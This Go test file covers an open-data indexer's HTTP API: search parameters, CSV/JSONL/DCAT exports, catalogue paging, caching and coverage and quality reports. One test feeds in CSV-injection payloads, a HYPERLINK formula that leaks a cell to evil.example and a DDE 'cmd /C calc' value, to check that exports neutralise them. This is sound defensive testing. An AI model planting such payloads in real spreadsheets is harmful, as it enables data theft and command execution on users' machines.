package server

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/opendatafrance/moisson/indexer/index"
	"github.com/opendatafrance/moisson/indexer/index/bleve"
	"github.com/opendatafrance/moisson/indexer/index/indextest"
	moissonv1 "github.com/opendatafrance/moisson/proto/moisson/v1"
	"google.golang.org/protobuf/proto"
)

func testServer(t *testing.T) (*httptest.Server, int) {
	t.Helper()
	idx, err := bleve.OpenMem()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { idx.Close() })
	ds := indextest.Datasets()
	var ops []index.Op
	for _, d := range ds {
		ops = append(ops, index.Op{ID: d.GetId(), Version: 1, Dataset: d})
	}
	if _, err := idx.Write(context.Background(), ops); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer((&Server{Index: idx, CursorKey: testCursorKey}).Handler())
	t.Cleanup(srv.Close)
	return srv, len(ds)
}

// testCursorKey seals the cursors of the test servers alike.
var testCursorKey = []byte("a key for the cursors of the tests")

func get(t *testing.T, u string, hdr ...string) (int, http.Header, string) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, u, nil)
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, string(b)
}

func TestBadParameters(t *testing.T) {
	srv, _ := testServer(t)
	for _, path := range []string{
		"/v1/datasets?modified_after=yesterday",
		"/v1/datasets?modified_before=2024-13-01",
		"/v1/datasets?has_data=maybe",
		"/v1/datasets?quality=great",
		"/v1/datasets?distinct=yes",
		"/v1/datasets?sort=-score",
		"/v1/datasets?nope=1",
		"/v1/datasets/export?format=xml",
		"/v1/datasets/export?format=csv&size=10",
		"/v1/datasets/export?format=csv&cursor=abc",
		"/v1/datasets/export?format=csv&has_data=1",
		"/catalog.ttl?page=0",
		"/catalog.rdf?page_size=5000",
		"/catalog.jsonld?q=x",
		"/catalog.ttl?cursor=garbage",
		"/v1/coverage?format=xml",
		"/v1/coverage?sort=title",
		"/v1/quality?size=3",
		"/v1/quality?distinct=true",
		"/v1/coverage?distinct=maybe",
		"/v1/quality?modified_after=x",
	} {
		code, h, body := get(t, srv.URL+path)
		var e apiError
		if code != http.StatusBadRequest || !strings.HasPrefix(h.Get("Content-Type"), "application/json") || json.Unmarshal([]byte(body), &e) != nil || e.Error.Message == "" {
			t.Errorf("GET %s: %d %s %s, want a 400 JSON error", path, code, h.Get("Content-Type"), body)
		}
	}
	if code, _, _ := get(t, srv.URL+"/catalog.ttl?page=99"); code != http.StatusNotFound {
		t.Errorf("catalogue page 99: %d, want 404", code)
	}
}

type answer struct {
	Total         int64             `json:"total"`
	DistinctTotal *int64            `json:"distinct_total"`
	Items         []json.RawMessage `json:"items"`
	Facets        map[string][]index.FacetCount
	NextCursor    string `json:"next_cursor"`
}

func search(t *testing.T, srv *httptest.Server, params string) answer {
	t.Helper()
	code, _, body := get(t, srv.URL+"/v1/datasets?"+params)
	if code != http.StatusOK {
		t.Fatalf("GET /v1/datasets?%s: %d %s", params, code, body)
	}
	var a answer
	if err := json.Unmarshal([]byte(body), &a); err != nil {
		t.Fatal(err)
	}
	return a
}

func TestSearchParameters(t *testing.T) {
	srv, n := testServer(t)
	all := search(t, srv, "size=100")
	if all.Total != int64(n) || all.DistinctTotal != nil {
		t.Fatalf("total %d distinct %v, want %d and none", all.Total, all.DistinctTotal, n)
	}
	for _, f := range Facets {
		if _, ok := all.Facets[f]; !ok {
			t.Errorf("facet %s missing", f)
		}
	}
	// has_data splits the corpus; the facet agrees.
	yes, no := search(t, srv, "has_data=true").Total, search(t, srv, "has_data=false").Total
	if yes+no != int64(n) || yes == 0 || no == 0 {
		t.Errorf("has_data true %d + false %d, want %d", yes, no, n)
	}
	for _, c := range all.Facets["has_data"] {
		if (c.Key == "true" && c.Count != yes) || (c.Key == "false" && c.Count != no) {
			t.Errorf("has_data facet %v vs %d/%d", c, yes, no)
		}
	}
	// Dates: after and before partition the dated records.
	after, before := search(t, srv, "modified_after=2022-08-01").Total, search(t, srv, "modified_before=2022-08-01").Total
	if after+before != int64(n-1) || after == 0 || before == 0 {
		t.Errorf("modified after %d + before %d, want %d (one record has no date)", after, before, n-1)
	}
	// Distinct: two duplicated pairs and a group of three (indextest).
	d := search(t, srv, "distinct=true")
	if d.DistinctTotal == nil || *d.DistinctTotal != int64(n-4) || d.Total != int64(n) {
		t.Errorf("distinct: total %d distinct %v, want %d and %d", d.Total, d.DistinctTotal, n, n-4)
	}
	// The coverage counts them too when asked.
	for param, want := range map[string]int64{"": int64(n), "?distinct=true": int64(n - 4)} {
		var cov struct {
			Datasets int64 `json:"datasets"`
			Distinct bool  `json:"distinct"`
		}
		code, _, body := get(t, srv.URL+"/v1/coverage"+param)
		if code != http.StatusOK || json.Unmarshal([]byte(body), &cov) != nil || cov.Datasets != want || cov.Distinct != (param != "") {
			t.Errorf("coverage%s: %d, %d datasets (distinct %t), want %d", param, code, cov.Datasets, cov.Distinct, want)
		}
	}
	// Items carry same_as and, with words, highlights.
	a := search(t, srv, "q=arbres")
	if len(a.Items) != 2 {
		t.Fatalf("q=arbres: %d items", len(a.Items))
	}
	for _, raw := range a.Items {
		var it struct {
			ID         string              `json:"id"`
			SameAs     []string            `json:"same_as"`
			Highlights map[string][]string `json:"highlights"`
		}
		if err := json.Unmarshal(raw, &it); err != nil {
			t.Fatal(err)
		}
		if len(it.SameAs) != 1 || it.SameAs[0] == it.ID {
			t.Errorf("%s: same_as %v", it.ID, it.SameAs)
		}
		if !strings.Contains(strings.Join(it.Highlights["title"], ""), "<mark>") {
			t.Errorf("%s: highlights %v", it.ID, it.Highlights)
		}
	}
	// Sort by quality, best first.
	q := search(t, srv, "sort=-quality&size=100")
	var prev int64 = 1 << 30
	for _, raw := range q.Items {
		var it struct {
			Quality struct {
				Score int64 `json:"score"`
			} `json:"quality"`
		}
		_ = json.Unmarshal(raw, &it)
		if it.Quality.Score > prev {
			t.Errorf("sort=-quality: %d after %d", it.Quality.Score, prev)
		}
		prev = it.Quality.Score
	}
	if r := search(t, srv, "quality=excellent&quality=good"); r.Total == 0 || r.Total == int64(n) {
		t.Errorf("quality=excellent|good: %d", r.Total)
	}
}

func TestExport(t *testing.T) {
	srv, n := testServer(t)
	code, h, body := get(t, srv.URL+"/v1/datasets/export?format=csv")
	if code != 200 || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
		t.Fatalf("csv: %d %s", code, h.Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != n+1 || !slices.Equal(rows[0], csvColumns) {
		t.Errorf("csv: %d rows, header %v", len(rows), rows[0])
	}
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		seen[r[0]] = true
	}
	if len(seen) != n {
		t.Errorf("csv: %d distinct ids, want %d", len(seen), n)
	}
	// Filters apply; JSON lines.
	want := search(t, srv, "territory=bretagne").Total
	_, _, body = get(t, srv.URL+"/v1/datasets/export?format=jsonl&territory=bretagne&sort=title")
	lines := strings.Split(strings.TrimSpace(body), "\n")
	if int64(len(lines)) != want {
		t.Errorf("jsonl territory=bretagne: %d lines, want %d", len(lines), want)
	}
	for _, l := range lines {
		var it map[string]any
		if err := json.Unmarshal([]byte(l), &it); err != nil || it["territory_id"] != "bretagne" {
			t.Errorf("jsonl line %s: %v", l, err)
		}
	}
	// DCAT: every dataset, in each syntax.
	for _, f := range []string{"ttl", "rdf", "jsonld"} {
		code, h, body := get(t, srv.URL+"/v1/datasets/export?format="+f)
		if code != 200 || h.Get("Content-Type") != exportTypes[f] {
			t.Errorf("%s: %d %s", f, code, h.Get("Content-Type"))
		}
		if got := strings.Count(body, "/v1/datasets/ds-"); got < n {
			t.Errorf("%s: %d dataset IRIs, want at least %d", f, got, n)
		}
	}
}

var nextRe = regexp.MustCompile(`hydra:nextPage <([^>]+)>`)

func TestCatalogPaging(t *testing.T) {
	srv, n := testServer(t)
	ids := func(body string) []string {
		var out []string
		for _, m := range regexp.MustCompile(`dcat:dataset <[^>]*/v1/datasets/([^>]+)>`).FindAllStringSubmatch(body, -1) {
			out = append(out, m[1])
		}
		return out
	}
	var walked []string
	var pages []string
	u := srv.URL + "/catalog.ttl?page_size=7"
	for i := 0; u != "" && i < 20; i++ {
		code, h, body := get(t, u)
		if code != 200 || h.Get("Content-Type") != rdfContentTypes["ttl"] {
			t.Fatalf("GET %s: %d", u, code)
		}
		if !strings.Contains(body, `hydra:totalItems "`+itoa(n)+`"`) {
			t.Errorf("page %d: no totalItems %d", i+1, n)
		}
		pages = append(pages, strings.Join(ids(body), ","))
		walked = append(walked, ids(body)...)
		u = ""
		if m := nextRe.FindStringSubmatch(body); m != nil {
			u = strings.ReplaceAll(m[1], `\u0020`, " ")
		}
	}
	if len(walked) != n || len(pages) != (n+6)/7 {
		t.Errorf("walked %d datasets in %d pages, want %d in %d", len(walked), len(pages), n, (n+6)/7)
	}
	// Page 3 by number is page 3 by cursor.
	_, _, body := get(t, srv.URL+"/catalog.ttl?page_size=7&page=3")
	if got := strings.Join(ids(body), ","); got != pages[2] {
		t.Errorf("page 3 by number %s, by cursor %s", got, pages[2])
	}
	if !strings.Contains(body, "hydra:lastPage <"+srv.URL+"/catalog.ttl?page="+itoa((n+6)/7)+"&page_size=7>") {
		t.Errorf("page 3: lastPage missing")
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

func TestCoverageAndQuality(t *testing.T) {
	srv, n := testServer(t)
	code, _, body := get(t, srv.URL+"/v1/coverage")
	var rep index.CoverageReport
	if code != 200 || json.Unmarshal([]byte(body), &rep) != nil || rep.Datasets != int64(n) || len(rep.Territories) != 9 {
		t.Fatalf("coverage: %d %d datasets %d territories", code, rep.Datasets, len(rep.Territories))
	}
	for _, accept := range []string{"?format=csv", ""} {
		hdr := []string{}
		if accept == "" {
			hdr = []string{"Accept", "text/csv"}
		}
		code, h, body := get(t, srv.URL+"/v1/coverage"+accept, hdr...)
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if code != 200 || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") || err != nil || len(rows) < 10 {
			t.Fatalf("coverage csv%s: %d %v %d rows", accept, code, err, len(rows))
		}
		found := false
		for _, r := range rows {
			if r[0] == "bretagne" && r[1] == "schema" && r[2] == "scdl/deliberations" {
				found = r[3] == "2" && r[4] == "2"
			}
		}
		if !found {
			t.Errorf("coverage csv: no row bretagne,schema,scdl/deliberations,2,2")
		}
	}
	code, _, body = get(t, srv.URL+"/v1/quality?territory=bretagne")
	var q struct {
		Report index.QualityReport `json:"report"`
	}
	if code != 200 || json.Unmarshal([]byte(body), &q) != nil || len(q.Report.Territories) != 1 || q.Report.Overall.Datasets == 0 {
		t.Errorf("quality: %d %s", code, body)
	}
	code, _, body = get(t, srv.URL+"/v1/quality?format=csv")
	if code != 200 || !strings.HasPrefix(body, "group,key,datasets,average,excellent,good,sufficient,bad\noverall,") {
		t.Errorf("quality csv: %d %.200s", code, body)
	}
}

// Behind the result cache, an answer is rendered once and sent again as it
// is, compressed or not: the same bytes as rendered afresh.
func TestRenderedPages(t *testing.T) {
	plain, _ := testServer(t)
	idx, err := bleve.OpenMem()
	if err != nil {
		t.Fatal(err)
	}
	defer idx.Close()
	var ops []index.Op
	for _, d := range indextest.Datasets() {
		ops = append(ops, index.Op{ID: d.GetId(), Version: 1, Dataset: d})
	}
	if _, err := idx.Write(context.Background(), ops); err != nil {
		t.Fatal(err)
	}
	cached := httptest.NewServer((&Server{Index: index.NewCache(idx, time.Hour, 100), CursorKey: testCursorKey}).Handler())
	defer cached.Close()
	client := &http.Client{Transport: &http.Transport{DisableCompression: true}}
	fetch := func(base, path string, gz bool) (http.Header, []byte) {
		t.Helper()
		req, _ := http.NewRequest(http.MethodGet, base+path, nil)
		if gz {
			req.Header.Set("Accept-Encoding", "gzip")
		}
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d %s", path, resp.StatusCode, b)
		}
		if gz && resp.Header.Get("Content-Encoding") != "gzip" && len(b) >= gzipMin {
			t.Fatalf("%s: not compressed", path)
		}
		if resp.Header.Get("Content-Encoding") == "gzip" {
			zr, err := gzip.NewReader(bytes.NewReader(b))
			if err != nil {
				t.Fatal(err)
			}
			if b, err = io.ReadAll(zr); err != nil {
				t.Fatal(err)
			}
		} else if !gz && resp.Header.Get("Content-Encoding") != "" {
			t.Fatalf("%s: compressed unasked", path)
		}
		return resp.Header, b
	}
	for _, path := range []string{"/v1/datasets?q=arbres", "/v1/datasets?territory=paca&size=2", "/v1/datasets?distinct=true", "/v1/datasets?q=zzzz"} {
		_, want := fetch(plain.URL, path, false)
		for i := 0; i < 3; i++ {
			for _, gz := range []bool{false, true} {
				h, got := fetch(cached.URL, path, gz)
				if !bytes.Equal(got, want) {
					t.Errorf("%s (gzip %t, %d): got\n%s\nwant\n%s", path, gz, i, got, want)
				}
				if ct := h.Get("Content-Type"); ct != "application/json; charset=utf-8" {
					t.Errorf("%s: Content-Type %q", path, ct)
				}
			}
		}
	}
	// The same result, rendered once.
	res, err := index.NewCache(idx, time.Hour, 10).Search(context.Background(), index.Query{Text: "arbres", Facets: Facets})
	if err != nil {
		t.Fatal(err)
	}
	if a, b := pages.get(res, false, noSeal), pages.get(res, false, noSeal); a != b {
		t.Error("a result rendered twice")
	}
	if a, b := pages.get(res, false, noSeal), pages.get(res, true, noSeal); a == b {
		t.Error("distinct or not: the same rendering")
	}
}

// CSV for spreadsheets: a cell that starts like a formula is neutralised in
// every CSV (OWASP), French Excel gets its dialect, and coverage lists the
// SCDL items a territory publishes nothing for, as the page does.
func TestCSVForSpreadsheets(t *testing.T) {
	idx, err := bleve.OpenMem()
	if err != nil {
		t.Fatal(err)
	}
	defer idx.Close()
	ds := indextest.Datasets()
	evil := proto.Clone(ds[0]).(*moissonv1.Dataset)
	evil.Id, evil.Title, evil.Description = "evil-1", `=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`, "@SUM(1+1)*cmd|' /C calc'!A0"
	var ops []index.Op
	for _, d := range append(ds, evil) {
		ops = append(ops, index.Op{ID: d.GetId(), Version: 1, Dataset: d})
	}
	if _, err := idx.Write(context.Background(), ops); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer((&Server{Index: idx}).Handler())
	defer srv.Close()
	_, _, body := get(t, srv.URL+"/v1/datasets/export?format=csv&q=cliquez")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")` || rows[1][2] != "'@SUM(1+1)*cmd|' /C calc'!A0" {
		t.Errorf("export: %v %q", err, rows)
	}
	_, h, body := get(t, srv.URL+"/v1/quality?format=csv&dialect=excel-fr")
	if !strings.HasPrefix(body, "\ufeffgroup;key;datasets;average;") || !strings.Contains(h.Get("Content-Disposition"), "moisson-quality.csv") {
		t.Errorf("quality for French Excel: %.80q", body)
	}
	if avg := strings.Split(strings.Split(body, "\r\n")[1], ";")[3]; !strings.Contains(avg, ",") || strings.Contains(avg, ".") {
		t.Errorf("average %q: want a decimal comma", avg)
	}
	if code, _, _ := get(t, srv.URL+"/v1/quality?dialect=excel-fr"); code != 400 {
		t.Errorf("dialect without format=csv: %d", code)
	}
	var rep index.CoverageReport
	_, _, body = get(t, srv.URL+"/v1/coverage?territory=bretagne")
	if err := json.Unmarshal([]byte(body), &rep); err != nil || len(rep.Territories) != 1 {
		t.Fatalf("coverage: %v %.200s", err, body)
	}
	var zero, items int
	for _, c := range rep.Territories[0].Schema {
		items++
		if c.Count == 0 {
			zero++
		}
	}
	if items < 13 || zero == 0 {
		t.Errorf("coverage of bretagne: %d SCDL items, %d without datasets; want every item", items, zero)
	}
}

func noSeal(c string) string { return c }
